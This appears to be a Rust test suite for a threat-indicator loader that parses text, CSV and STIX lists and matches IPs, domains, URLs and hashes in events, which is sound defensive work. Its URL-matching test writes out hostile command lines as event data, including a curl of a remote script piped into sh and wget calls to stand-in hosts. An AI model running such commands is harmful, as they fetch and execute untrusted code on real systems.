use super::*;
use proptest::prelude::*;
use serde_json::json;

/// 2026-12-01T00:00:00Z: the load time of these tests.
const NOW: i64 = 1_796_083_200;

fn load(files: &[(&str, &str)]) -> IocSet {
    IocSet::from_sources_at(files.iter().copied(), NOW).unwrap_or_else(|e| panic!("{e}"))
}

fn problems(files: &[(&str, &str)]) -> Vec<String> {
    match IocSet::from_sources_at(files.iter().copied(), NOW) {
        Ok(set) => panic!("loaded: {set:?}"),
        Err(IocError::Invalid { problems, count }) => {
            assert_eq!(problems.len(), count);
            problems.iter().map(ToString::to_string).collect()
        }
        Err(e) => panic!("{e}"),
    }
}

fn ind(ip: &[&str], domain: &[&str], hashes: &[&str]) -> Indicators {
    let v = |l: &[&str]| l.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let of_len = |n: usize| {
        v(&hashes
            .iter()
            .copied()
            .filter(|h| h.len() == n)
            .collect::<Vec<_>>())
    };
    Indicators {
        ip: v(ip),
        domain: v(domain),
        md5: of_len(32),
        sha1: of_len(40),
        sha256: of_len(64),
        user: Vec::new(),
    }
}

fn hit(set: &IocSet, i: &Indicators) -> Option<IocHit> {
    set.lookup(i, &Fields::new(), NOW)
}

/// `(type, value, indicator, list, name)` of the hit.
fn short(h: Option<IocHit>) -> Option<(String, String, String, String, Option<String>)> {
    h.map(|h| (h.kind.to_string(), h.value, h.indicator, h.list, h.name))
}

fn s(x: &str) -> String {
    x.to_string()
}

const MD5: &str = "44d88612fea8a8f36de82e1278abb02f";
const SHA1: &str = "3395856ce81f2b7382dee72602f798b642f14140";
const SHA256: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

#[test]
fn plain_text_every_type() {
    let text = format!(
        "\u{feff}# Advisory 2026-11\r\n\
         \r\n\
         185.220.101.47   # Cobalt Strike C2\r\n\
         45.61.136.0/24\n\
         2001:DB8:BAD::/48   #  v6 range  \n\
         2001:db8::77\n\
         Evil.Example.\n\
         *.wild.example\n\
         login[.]phish(.)example # defanged\n\
         hxxps://cdn.dropper.example/stage2.sh#part\n\
         0.0.0.0 tracker.example\n\
         {}\n{}\n{}\n\
         {}   # a SHA-512: skipped, counted\n\
         bad@evil.example\n",
        MD5.to_uppercase(),
        SHA1,
        SHA256,
        "e".repeat(128)
    );
    let set = load(&[("iocs/advisory-2026-11.txt", &text)]);
    assert_eq!(set.len(), 12);
    let st = set.stats();
    assert_eq!(st.lists, 1);
    assert_eq!(st.unsupported, 2, "{:?}", set.warnings());
    assert_eq!(
        set.warnings()[0].to_string(),
        format!(
            "iocs/advisory-2026-11.txt:15: SHA-512 hash {:?} skipped: events carry no such indicator",
            format!("{}…", "e".repeat(80))
        )
    );
    assert_eq!(
        st.by_type,
        BTreeMap::from([
            (IocType::Ip, 2),
            (IocType::Cidr, 2),
            (IocType::Domain, 4),
            (IocType::Url, 1),
            (IocType::Md5, 1),
            (IocType::Sha1, 1),
            (IocType::Sha256, 1),
        ])
    );
    assert_eq!(set.lists()[0].name, "advisory-2026-11");
    assert_eq!(set.lists()[0].format, IocFormat::Text);
    assert_eq!(set.lists()[0].entries, 12);
    let l = s("advisory-2026-11");
    assert_eq!(
        short(hit(&set, &ind(&["185.220.101.47"], &[], &[]))),
        Some((
            s("ip"),
            s("185.220.101.47"),
            s("185.220.101.47"),
            l.clone(),
            Some(s("Cobalt Strike C2"))
        ))
    );
    assert_eq!(
        short(hit(&set, &ind(&["45.61.136.9"], &[], &[]))),
        Some((
            s("cidr"),
            s("45.61.136.9"),
            s("45.61.136.0/24"),
            l.clone(),
            None
        ))
    );
    assert_eq!(
        short(hit(&set, &ind(&["2001:db8:bad:1::2"], &[], &[]))),
        Some((
            s("cidr"),
            s("2001:db8:bad:1::2"),
            s("2001:db8:bad::/48"),
            l.clone(),
            Some(s("v6 range"))
        ))
    );
    assert_eq!(
        short(hit(&set, &ind(&["2001:db8::77"], &[], &[]))).map(|h| h.0),
        Some(s("ip"))
    );
    for (name, listed) in [
        ("evil.example", "evil.example"),
        ("a.b.evil.example", "evil.example"),
        ("x.wild.example", "wild.example"),
        ("login.phish.example", "login.phish.example"),
        ("tracker.example", "tracker.example"),
    ] {
        assert_eq!(
            short(hit(&set, &ind(&[], &[name], &[]))).map(|h| (h.0, h.1, h.2)),
            Some((s("domain"), s(name), s(listed))),
            "{name}"
        );
    }
    assert_eq!(
        short(hit(&set, &ind(&[], &[], &[MD5]))),
        Some((s("md5"), s(MD5), s(MD5), l.clone(), None))
    );
    assert_eq!(
        short(hit(&set, &ind(&[], &[], &[SHA1]))).map(|h| h.0),
        Some(s("sha1"))
    );
    assert_eq!(
        short(hit(&set, &ind(&[], &[], &[SHA256]))).map(|h| h.0),
        Some(s("sha256"))
    );
    // Misses.
    for i in [
        ind(&["45.61.137.1", "2001:db8::78", "10.0.0.1"], &[], &[]),
        ind(
            &[],
            &[
                "notevil.example",
                "example",
                "evil.example.org",
                "phish.example",
            ],
            &[],
        ),
        ind(&[], &[], &[&MD5.replace('4', "5")]),
        ind(&["not an ip"], &[], &["zz"]),
    ] {
        assert_eq!(hit(&set, &i), None, "{i:?}");
    }
}

#[test]
fn plain_text_errors_name_file_and_line() {
    let got = problems(&[
        (
            "a.txt",
            "evil.example\nhello world\n10.0.0.0/33\n\n# fine\nevil\n1.2.3.4 5.6.7.8\n",
        ),
        ("b.list", "ok.example\n\u{0}bad\nx..example\n"),
    ]);
    assert_eq!(
        got,
        vec![
            "a.txt:2: \"hello world\": one indicator a line (start a comment with ` #`)",
            "a.txt:3: \"10.0.0.0/33\": an IPv4 prefix is at most /32",
            "a.txt:6: \"evil\" is not an IP, CIDR, domain, URL, or MD5/SHA-1/SHA-256 hash",
            "a.txt:7: \"1.2.3.4 5.6.7.8\": one indicator a line (start a comment with ` #`)",
            "b.list:2: \"\\0bad\" is not an IP, CIDR, domain, URL, or MD5/SHA-1/SHA-256 hash",
            "b.list:3: \"x..example\" is not a domain name: an empty label, or one longer than 63 characters",
        ]
    );
    let got = problems(&[("bytes.ioc", "ok.example\n\u{e9}t\u{e9}\n")]);
    assert!(
        got.is_empty() || got[0].starts_with("bytes.ioc:2"),
        "{got:?}"
    );
    let mut invalid = b"ok.example\n".to_vec();
    invalid.extend_from_slice(b"\xff\xfe\n");
    match IocSet::from_sources_at([("raw.txt", invalid)], NOW) {
        Err(IocError::Invalid { problems, .. }) => {
            assert_eq!(problems[0].to_string(), "raw.txt:2: not UTF-8 text")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn many_errors_are_capped_but_counted() {
    let text = "junk line\n".repeat(250);
    match IocSet::from_sources_at([("x.txt", text.as_str())], NOW) {
        Err(e @ IocError::Invalid { .. }) => {
            let IocError::Invalid { problems, count } = &e else {
                unreachable!()
            };
            assert_eq!((problems.len(), *count), (MAX_PROBLEMS, 250));
            assert!(e
                .to_string()
                .starts_with("250 invalid IOC list entries\n  x.txt:1: "));
            assert!(e.to_string().ends_with("... and 150 more"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn csv_lists() {
    let csv = format!(
        "# exported 2026-11-30\n\
         Indicator_Type , Indicator,Description,valid_until,extra\n\
         ip,185.220.101.47,C2,,x\n\
         IPv4,45.61.136.0/24,\"Range, bulletproof\",,\n\
         cidr,198.51.100.7,single address as a network,,\n\
         domain,Evil.Example,Phishing,,\n\
         url,hxxp://cdn.dropper[.]example/a.sh,,,\n\
         hash,{MD5},,,\n\
         SHA-1,{SHA1},,,\n\
         sha256,{SHA256},,2027-01-01T00:00:00Z,\n\
         ,inferred.example,empty type,,\n\
         email-addr,bad@evil.example,skipped,,\n\
         domain,old.example,expired,2026-01-01T00:00:00Z,\n\
         \n"
    );
    let set = load(&[("feeds/partner.csv", &csv)]);
    assert_eq!(set.len(), 9, "{:?}", set.warnings());
    assert_eq!((set.stats().unsupported, set.stats().expired), (1, 1));
    let w: Vec<String> = set.warnings().iter().map(ToString::to_string).collect();
    assert_eq!(
        w,
        vec![
            "feeds/partner.csv:12: type \"email-addr\" skipped: events carry no such indicator",
            "feeds/partner.csv:13: \"old.example\" expired (valid_until) and is skipped",
        ]
    );
    let h = hit(&set, &ind(&["45.61.136.1"], &[], &[])).unwrap();
    assert_eq!(
        (h.list.as_str(), h.name.as_deref()),
        ("partner", Some("Range, bulletproof"))
    );
    assert_eq!(
        short(hit(&set, &ind(&["198.51.100.7"], &[], &[]))).map(|h| (h.0, h.2)),
        Some((s("cidr"), s("198.51.100.7/32")))
    );
    assert_eq!(
        hit(&set, &ind(&[], &["x.evil.example"], &[]))
            .unwrap()
            .name
            .as_deref(),
        Some("Phishing")
    );
    assert!(hit(&set, &ind(&[], &["inferred.example"], &[])).is_some());
    assert!(hit(&set, &ind(&[], &["old.example"], &[])).is_none());
    // valid_until is honoured at lookup too.
    let i = ind(&[], &[], &[SHA256]);
    assert!(set.lookup(&i, &Fields::new(), NOW).is_some());
    assert!(set.lookup(&i, &Fields::new(), 1_798_761_600).is_none());

    let tsv = "type\tvalue\tname\nip\t10.9.8.7\ttabbed\n";
    let set = load(&[("x.TSV", tsv)]);
    assert_eq!(
        hit(&set, &ind(&["10.9.8.7"], &[], &[]))
            .unwrap()
            .name
            .as_deref(),
        Some("tabbed")
    );
}

#[test]
fn csv_errors_name_file_and_line() {
    assert_eq!(
        problems(&[("a.csv", "kind,value\nip,1.2.3.4\n")]),
        vec!["a.csv:1: the header needs a type column (`type` or `indicator_type`) and a value column (`value` or `indicator`)"]
    );
    assert_eq!(
        problems(&[(
            "b.csv",
            "type,value\nip,1.2.3.4\nip,evil.example\nsha256,abcd\nfoo,bar\nip,1.2.3.4,extra\ndomain,\nip,\"unterminated\n"
        )]),
        vec![
            "b.csv:3: type ip: \"evil.example\" is not an IP address or CIDR",
            "b.csv:4: type sha256: \"abcd\" is not 64 hex digits",
            "b.csv:5: unknown type \"foo\" (ip, cidr, domain, url, md5, sha1, sha256, hash, or empty to infer it)",
            "b.csv:6: 3 fields where the header has 2",
            "b.csv:7: an empty value",
            "b.csv:8: type ip: \"unterminated\" is not an IP address or CIDR",
        ]
    );
    assert_eq!(
        problems(&[("c.csv", "type,value,valid_until\nip,1.2.3.4,tomorrow\n")]),
        vec!["c.csv:2: valid_until \"tomorrow\" is not RFC 3339"]
    );
}

fn bundle(objects: serde_json::Value) -> String {
    json!({"type": "bundle", "id": "bundle--1", "objects": objects}).to_string()
}

fn indicator(id: &str, pattern: &str) -> serde_json::Value {
    json!({"type": "indicator", "spec_version": "2.1", "id": id, "pattern": pattern,
           "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"})
}

#[test]
fn stix_bundles() {
    let mut named = indicator(
        "indicator--a",
        "[ipv4-addr:value = '185.220.101.47' OR ipv4-addr:value = '45.61.136.0/24'] OR [domain-name:value = 'evil.example']",
    );
    named["name"] = json!("Cobalt Strike C2");
    let mut revoked = indicator("indicator--r", "[ipv4-addr:value = '10.0.0.1']");
    revoked["revoked"] = json!(true);
    let mut expired = indicator("indicator--e", "[ipv4-addr:value = '10.0.0.2']");
    expired["valid_until"] = json!("2026-06-01T00:00:00.000Z");
    let mut later = indicator("indicator--l", "[ipv4-addr:value = '10.0.0.3']");
    later["valid_until"] = json!("2027-01-01T00:00:00Z");
    let mut future = indicator("indicator--f", "[ipv4-addr:value = '10.0.0.4']");
    future["valid_from"] = json!("2027-01-01T00:00:00Z");
    let mut yara = indicator("indicator--y", "rule x { condition: true }");
    yara["pattern_type"] = json!("yara");
    let objects = json!([
        {"type": "identity", "id": "identity--1", "name": "ACME CERT"},
        named,
        indicator("indicator--h", &format!(
            "[file:hashes.'SHA-256' = '{SHA256}' OR file:hashes.MD5 = '{}'] OR [file:hashes.SHA1 IN ('{SHA1}')]",
            MD5.to_uppercase()
        )),
        indicator("indicator--u", "[url:value = 'http://cdn.dropper.example/a.sh']"),
        indicator("indicator--6", "[ipv6-addr:value = '2001:db8::/32'] OR [network-traffic:dst_ref.value = 'c2.example']"),
        revoked,
        expired,
        later,
        future,
        yara,
        indicator("indicator--n", "[email-addr:value = 'x@evil.example']"),
        indicator("indicator--p", "[file:name = 'x.exe' OR file:hashes.MD5 = '0cc175b9c0f1b6a831c399e269772661']"),
        {"type": "relationship", "id": "relationship--1", "source_ref": "indicator--a"},
        5,
    ]);
    let set = load(&[("threat/apt.json", &bundle(objects))]);
    let st = set.stats();
    assert_eq!(
        (st.revoked, st.expired, st.unsupported),
        (1, 1, 3),
        "{:?}",
        set.warnings()
    );
    let w: Vec<String> = set.warnings().iter().map(ToString::to_string).collect();
    assert_eq!(
        w,
        vec![
            "threat/apt.json: indicator--e: \"indicator--e\" expired (valid_until) and is skipped",
            "threat/apt.json: indicator--y: pattern_type \"yara\" skipped: tripline evaluates STIX patterns",
            "threat/apt.json: indicator--n: \"indicator--n\" skipped: its pattern has no comparison tripline evaluates (email-addr:value)",
            "threat/apt.json: indicator--p: \"indicator--p\": 1 comparison(s) loaded, OR branches left out (file:name)",
        ]
    );
    let h = hit(&set, &ind(&["45.61.136.3"], &[], &[])).unwrap();
    assert_eq!(
        (h.kind, h.list.as_str(), h.name.as_deref()),
        (IocType::Cidr, "apt", Some("Cobalt Strike C2"))
    );
    assert_eq!(
        hit(&set, &ind(&[], &["a.evil.example"], &[]))
            .unwrap()
            .name
            .as_deref(),
        Some("Cobalt Strike C2")
    );
    for hash in [MD5, SHA1, SHA256] {
        assert_eq!(
            hit(&set, &ind(&[], &[], &[hash])).unwrap().name.as_deref(),
            Some("indicator--h")
        );
    }
    assert!(hit(&set, &ind(&["2001:db8:1::1"], &[], &[])).is_some());
    assert!(hit(&set, &ind(&[], &["c2.example"], &[])).is_some());
    assert!(hit(&set, &ind(&[], &[], &["0cc175b9c0f1b6a831c399e269772661"])).is_some());
    assert!(
        hit(&set, &ind(&["10.0.0.1"], &[], &[])).is_none(),
        "revoked"
    );
    assert!(
        hit(&set, &ind(&["10.0.0.2"], &[], &[])).is_none(),
        "expired"
    );
    // Validity is judged at the event's time.
    let at = |ip: &str, t: i64| {
        set.lookup(&ind(&[ip], &[], &[]), &Fields::new(), t)
            .is_some()
    };
    assert!(at("10.0.0.3", NOW) && !at("10.0.0.3", 1_798_761_600));
    assert!(!at("10.0.0.4", NOW) && at("10.0.0.4", 1_798_761_600));

    // A TAXII envelope and a bare array hold objects too.
    let envelope = json!({"more": false, "objects": [indicator("indicator--x", "[domain-name:value = 'env.example']")]});
    let array = json!([indicator(
        "indicator--z",
        "[domain-name:value = 'arr.example']"
    )]);
    let set = load(&[
        ("e.json", &envelope.to_string()),
        ("a.json", &array.to_string()),
    ]);
    assert_eq!(set.len(), 2);
}

#[test]
fn stix_errors_name_the_object() {
    let mut bad_time = indicator("indicator--t", "[ipv4-addr:value = '1.2.3.4']");
    bad_time["valid_until"] = json!("next week");
    let mut no_id = indicator("x", "[ipv4-addr:value = '1.2.3.4']");
    no_id.as_object_mut().unwrap().remove("id");
    let mut wrong_type = indicator("indicator--w", "[ipv4-addr:value = '1.2.3.4']");
    wrong_type["pattern"] = json!(["not", "a", "string"]);
    let objects = json!([
        indicator("indicator--s", "[ipv4-addr:value = '1.2.3.4'"),
        indicator("indicator--v", "[ipv4-addr:value = 'evil.example']"),
        indicator("indicator--f", "[ipv4-addr:value = '2001:db8::1']"),
        indicator("indicator--d", "[domain-name:value = 'com']"),
        bad_time,
        no_id,
        wrong_type,
    ]);
    assert_eq!(
        problems(&[("apt.json", &bundle(objects))]),
        vec![
            "apt.json: indicator--s: pattern \"[ipv4-addr:value = '1.2.3.4'\": `]` expected at the end",
            "apt.json: indicator--v: ipv4-addr:value: \"evil.example\" is not an IP address or CIDR",
            "apt.json: indicator--f: ipv4-addr:value: \"2001:db8::1\" is not an address of this family",
            "apt.json: indicator--d: domain-name:value: \"com\": a domain needs at least two labels (a one-label entry would match every name under it)",
            "apt.json: indicator--t: `valid_until` \"next week\" is not an RFC 3339 timestamp",
            "apt.json: indicator #6 (of the bundle's objects) has no `id`",
            "apt.json: indicator--w: no string `pattern`",
        ]
    );
    let got = problems(&[(
        "broken.json",
        "{\"type\": \"bundle\",\n \"objects\": [\n {\"type\": }\n]}",
    )]);
    assert_eq!(got.len(), 1);
    assert!(
        got[0].starts_with("broken.json:3: not a STIX bundle: "),
        "{got:?}"
    );
    assert_eq!(
        problems(&[(
            "x.json",
            "{\"type\": \"indicator\", \"id\": \"indicator--1\"}"
        )]),
        vec!["x.json: a STIX object of type \"indicator\", not a bundle"]
    );
    assert_eq!(
        problems(&[("y.json", "{\"type\": \"bundle\"}")]),
        vec!["y.json: not a STIX bundle: no `objects` array (a bundle, a TAXII envelope or an array of objects)"]
    );
}

#[test]
fn urls_match_only_where_the_row_holds_them() {
    let set = load(&[(
        "u.txt",
        "https://github.com/evil/tool/raw/main/x.sh\nhttp://evil.example:8080/\nhttp://203.0.113.9/p\nhttp://whole.example/\n",
    )]);
    let cols = |cmd: &str| Fields::from(json!({"cmdline": cmd}).as_object().unwrap());
    let look = |ip: &[&str], domain: &[&str], cmd: &str| {
        set.lookup(&ind(ip, domain, &[]), &cols(cmd), NOW)
            .map(|h| (h.value, h.indicator))
    };
    let gh = "https://github.com/evil/tool/raw/main/x.sh";
    assert_eq!(
        look(
            &[],
            &["github.com"],
            "curl -sL HTTPS://GitHub.com/evil/tool/raw/main/x.sh | sh"
        ),
        Some((s(gh), s(gh)))
    );
    assert_eq!(
        look(
            &[],
            &["github.com"],
            "git clone https://github.com/acme/app"
        ),
        None
    );
    assert_eq!(
        look(
            &[],
            &["github.com"],
            "curl https://github.com/evil/tool/raw/main/x.sh2"
        ),
        None
    );
    assert_eq!(
        look(
            &[],
            &["evil.example"],
            "curl http://evil.example:8080/anything"
        )
        .map(|h| h.0),
        Some(s("http://evil.example:8080/"))
    );
    assert_eq!(
        look(&[], &["evil.example"], "curl http://evil.example/anything"),
        None
    );
    assert!(look(&["203.0.113.9"], &[], "wget http://203.0.113.9/p -O-").is_some());
    assert!(look(&["203.0.113.9"], &[], "wget http://203.0.113.9/q").is_none());
    // A URL without a path is its host, exactly: subdomains are not that URL.
    assert!(look(&[], &["whole.example"], "").is_some());
    assert!(look(&[], &["a.whole.example"], "").is_none());
}

#[test]
fn first_hit_order_and_count() {
    let set = load(&[
        (
            "a.txt",
            &format!("10.0.0.0/8\n10.1.0.0/16 # narrower\nevil.example\n{MD5}\n"),
        ),
        (
            "b.txt",
            "10.1.2.3\nsub.evil.example # more specific\n10.0.0.0/8 # again\n",
        ),
    ]);
    assert_eq!(set.stats().duplicates, 1);
    // Hashes first, then domains, then IPs; every hit counted.
    let h = hit(
        &set,
        &ind(&["10.1.2.3", "10.200.0.1"], &["x.sub.evil.example"], &[MD5]),
    )
    .unwrap();
    assert_eq!((h.kind, h.hits), (IocType::Md5, 4));
    let h = hit(&set, &ind(&["10.1.2.3"], &["x.sub.evil.example"], &[])).unwrap();
    assert_eq!(
        (h.kind, h.indicator.as_str(), h.name.as_deref()),
        (IocType::Domain, "sub.evil.example", Some("more specific"))
    );
    // An exact address before its networks, the longest prefix before shorter ones.
    let h = hit(&set, &ind(&["10.1.2.3"], &[], &[])).unwrap();
    assert_eq!((h.kind, h.list.as_str()), (IocType::Ip, "b"));
    let h = hit(&set, &ind(&["10.1.9.9"], &[], &[])).unwrap();
    assert_eq!(
        (h.indicator.as_str(), h.name.as_deref()),
        ("10.1.0.0/16", Some("narrower"))
    );
    // The first listing of a duplicate is kept.
    let h = hit(&set, &ind(&["10.2.0.1"], &[], &[])).unwrap();
    assert_eq!((h.list.as_str(), h.name), ("a", None));
}

#[test]
fn case_and_spelling_do_not_matter() {
    let set = load(&[(
        "c.txt",
        &format!(
            "EVIL.Example\n{}\n2001:DB8:0:0::1\n::ffff:192.0.2.1\n",
            SHA256.to_uppercase()
        ),
    )]);
    assert!(hit(&set, &ind(&[], &["evil.example"], &[])).is_some());
    assert!(hit(&set, &ind(&[], &[], &[SHA256])).is_some());
    assert!(hit(&set, &ind(&["2001:db8::1"], &[], &[])).is_some());
    assert!(hit(&set, &ind(&["192.0.2.1"], &[], &[])).is_some());
}

#[test]
fn files_by_extension() {
    let set = load(&[
        ("README.md", "# lists"),
        ("x.ioc", "a.example\n"),
        ("y.LIST", "b.example\n"),
    ]);
    assert_eq!(
        (set.len(), set.stats().skipped_files, set.stats().lists),
        (2, 1, 2)
    );
    assert_eq!(
        set.warnings()[0].to_string(),
        "README.md: not an IOC list: lists end in .txt, .ioc, .list, .csv, .tsv or .json"
    );
    assert_eq!(IocFormat::of("a/b.JSON"), Some(IocFormat::Stix));
    assert_eq!(IocFormat::of("noext"), None);
    assert!(
        IocSet::from_sources_at(Vec::<(String, Vec<u8>)>::new(), NOW)
            .unwrap()
            .is_empty()
    );
}

#[test]
fn load_dir_walks_sorted() {
    let dir = std::env::temp_dir().join(format!("tripline-iocs-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    std::fs::write(dir.join("b.txt"), "10.0.0.1 # from b\n").unwrap();
    std::fs::write(dir.join("sub/a.txt"), "10.0.0.1 # from sub/a\n").unwrap();
    std::fs::write(dir.join("a.csv"), "type,value\ndomain,a.example\n").unwrap();
    std::fs::write(dir.join(".git/x.txt"), "junk junk\n").unwrap();
    std::fs::write(dir.join(".hidden.txt"), "junk junk\n").unwrap();
    let set = IocSet::load_dir(&dir).unwrap();
    let files: Vec<&str> = set.lists().iter().map(|l| l.file.as_str()).collect();
    assert_eq!(files, ["a.csv", "b.txt", "sub/a.txt"]);
    assert_eq!(
        hit(&set, &ind(&["10.0.0.1"], &[], &[]))
            .unwrap()
            .name
            .as_deref(),
        Some("from b")
    );
    std::fs::write(dir.join("sub/bad.txt"), "junk junk\n").unwrap();
    let err = IocSet::load_dir(&dir).unwrap_err().to_string();
    assert!(err.contains("sub/bad.txt:1: "), "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(matches!(IocSet::load_dir(&dir), Err(IocError::Io { .. })));
}

#[test]
fn hit_json_is_the_derived_object() {
    let h = IocHit {
        value: s("a.evil.example"),
        kind: IocType::Domain,
        indicator: s("evil.example"),
        list: s("advisory"),
        name: None,
        hits: 2,
    };
    let j = h.to_json();
    assert_eq!(
        j,
        json!({"value": "a.evil.example", "type": "domain", "indicator": "evil.example", "list": "advisory", "hits": 2})
    );
    assert_eq!(serde_json::to_value(&h).unwrap(), j);
    assert_eq!(serde_json::from_value::<IocHit>(j).unwrap(), h);
}

/// Lines made of pieces that each format gives meaning to.
fn fragments() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "10.0.0.1",
        "10.0.0.0/8",
        "/",
        "::",
        "[",
        "]",
        "(",
        ")",
        "'",
        "\"",
        ",",
        "#",
        " ",
        "\t",
        ".",
        "..",
        "evil.example",
        "*.",
        "hxxp",
        "://",
        "[.]",
        "@",
        "%",
        "\u{e9}",
        "\u{feff}",
        "44d88612fea8a8f3",
        "type",
        "value",
        "ip",
        "domain",
        "sha256",
        "OR",
        "AND",
        "=",
        "IN",
        "[ipv4-addr:value = '",
        "']",
        "{\"type\":\"bundle\",\"objects\":[",
        "{\"type\":\"indicator\",\"id\":\"i\",\"pattern\":\"",
        "\"}",
        "]}",
        "\n",
        "\r\n",
        "0",
        "99999",
        "-",
    ]);
    prop::collection::vec(piece, 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// No input panics a loader: every file is loaded or reported.
    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        for name in ["x.txt", "x.csv", "x.tsv", "x.json"] {
            let _ = IocSet::from_sources_at([(name, &bytes)], NOW);
        }
    }

    #[test]
    fn random_fragments_never_panic(text in fragments()) {
        for name in ["x.txt", "x.csv", "x.json"] {
            if let Ok(set) = IocSet::from_sources_at([(name, &text)], NOW) {
                let i = ind(&["10.0.0.1", "::1"], &["a.evil.example"], &[MD5]);
                let _ = set.lookup(&i, &Fields::new(), NOW);
            }
        }
        let _ = stix::parse_for_tests(&text);
    }

    /// Whatever a plain list holds, each entry it loaded is found by the lookup of the
    /// value it was written as.
    #[test]
    fn loaded_entries_are_found(octets in prop::collection::vec((any::<u8>(), any::<u8>()), 1..20),
                                labels in prop::collection::vec("[a-z][a-z0-9]{0,8}", 1..10)) {
        let ips: Vec<String> = octets.iter().map(|(a, b)| format!("198.{a}.{b}.7")).collect();
        let names: Vec<String> = labels.iter().map(|l| format!("{l}.example")).collect();
        let text = ips.iter().chain(&names).map(|s| s.as_str()).collect::<Vec<_>>().join("\n");
        let set = IocSet::from_sources_at([("p.txt", text)], NOW).unwrap();
        for ip in &ips {
            prop_assert!(hit(&set, &ind(&[ip], &[], &[])).is_some());
        }
        for n in &names {
            let sub = format!("x.{n}");
            prop_assert!(hit(&set, &ind(&[], &[&sub], &[])).is_some());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// The IPv4 block summary and the Bloom filter only skip probes that could not hit: the
    /// lookup finds the longest listed network holding an address, or the address itself,
    /// exactly as a scan of the list would.
    #[test]
    fn lookups_agree_with_a_scan(
        nets in prop::collection::vec((any::<u32>(), 1u8..=32), 1..40),
        exact in prop::collection::vec(any::<u32>(), 0..10),
        probes in prop::collection::vec(any::<u32>(), 1..60),
    ) {
        let ip = |a: u32| std::net::Ipv4Addr::from(a).to_string();
        let mut text = String::new();
        for (a, len) in &nets {
            text.push_str(&format!("{}/{len}\n", ip(*a)));
        }
        for a in &exact {
            text.push_str(&format!("{}\n", ip(*a)));
        }
        let set = IocSet::from_sources_at([("n.txt", text)], NOW).unwrap();
        // Probe addresses inside the networks as well as random ones.
        let inside = nets.iter().map(|(a, len)| mask4(*a, *len) | (a.rotate_left(7) & !(u32::MAX.checked_shl(32 - u32::from(*len)).unwrap_or(0))));
        for a in probes.iter().copied().chain(inside).chain(exact.iter().copied()) {
            let want = if exact.contains(&a) {
                Some(ip(a))
            } else {
                nets.iter()
                    .filter(|(n, len)| mask4(a, *len) == mask4(*n, *len))
                    .max_by_key(|(_, len)| *len)
                    .map(|(n, len)| format!("{}/{len}", ip(mask4(*n, *len))))
            };
            let got = hit(&set, &ind(&[&ip(a)], &[], &[])).map(|h| h.indicator);
            prop_assert_eq!(got, want, "{}", ip(a));
        }
    }
}
